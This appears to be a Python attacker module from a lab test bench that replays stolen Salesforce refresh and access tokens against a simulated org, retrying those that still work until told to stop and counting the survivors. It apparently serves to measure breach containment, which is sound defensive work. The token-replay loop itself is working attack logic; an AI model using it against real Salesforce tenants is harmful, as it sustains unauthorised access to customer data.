"""The attacker of the containment bench: holds thousands of tokens and never stops trying those that work."""

from __future__ import annotations

import json
import threading
from collections import deque
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from datetime import UTC, datetime
from pathlib import Path
from typing import TextIO

import requests

from deployments.lab.scenarios.attacker import SalesforceThief
from deployments.lab.twin import Twin

MINTED_EACH = 4  # access tokens for each user, besides all its refresh tokens
ACCESS_THREADS, REFRESH_THREADS = 5, 2


class _Tokens:
    """What still works: a token that is refused once is dropped, so that those which live are tried often."""

    def __init__(self, log: TextIO) -> None:
        self.access: deque[str] = deque()
        self.refresh: deque[str] = deque()
        self._log = log
        self._lock = threading.Lock()

    def note(self, ok: bool, started: datetime, kind: str = "") -> None:
        with self._lock:
            self._log.write(json.dumps({"at": started.isoformat(), "ok": ok, "kind": kind}) + "\n")
            self._log.flush()


def attack(twin: Twin, tokens_file: Path, log: Path) -> None:
    """Try tokens until a file `stop` lies beside the log, then each that is left once more; the last line of
    the log says how many still worked."""
    stolen: dict[str, list[str]] = json.loads(tokens_file.read_text())
    salesforce = {"url": twin.url, "api_version": "67.0", "ca": str(twin.ca)}
    thief = SalesforceThief({"salesforce": salesforce, "stolen": twin.org["stolen"]}, "thief/1.0")
    stop = log.with_name("stop")
    with ThreadPoolExecutor(8) as pool:
        minted = list(pool.map(thief.refresh, [t for some in stolen.values() for t in some[:MINTED_EACH]]))
    with log.open("w") as out:
        tokens = _Tokens(out)
        tokens.access.extend(token for token in minted if token)
        tokens.refresh.extend(token for some in stolen.values() for token in some)
        tokens.note(True, datetime.now(UTC))
        threads = [
            threading.Thread(target=_loop, args=(thief, tokens, kind, stop))
            for kind in ["access"] * ACCESS_THREADS + ["refresh"] * REFRESH_THREADS
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        with ThreadPoolExecutor(8) as pool:
            left = sum(pool.map(lambda token: _works(thief, "access", token), tokens.access))
            left += sum(pool.map(lambda token: _works(thief, "refresh", token), tokens.refresh))
        out.write(json.dumps({"at": datetime.now(UTC).isoformat(), "ok": False, "left": left}) + "\n")


def _loop(thief: SalesforceThief, tokens: _Tokens, kind: str, stop: Path) -> None:
    queue: deque[str] = getattr(tokens, kind)
    while not stop.exists():
        try:
            token = queue.popleft()
        except IndexError:
            return
        started = datetime.now(UTC)
        works = _works(thief, kind, token)
        tokens.note(works, started, kind)
        if works:
            queue.append(token)


def _works(thief: SalesforceThief, kind: str, token: str) -> bool:
    with suppress(requests.RequestException):
        if kind == "refresh":
            return thief.refresh(token) is not None
        return thief.query("SELECT Id FROM Contact LIMIT 1", token).ok
    return False
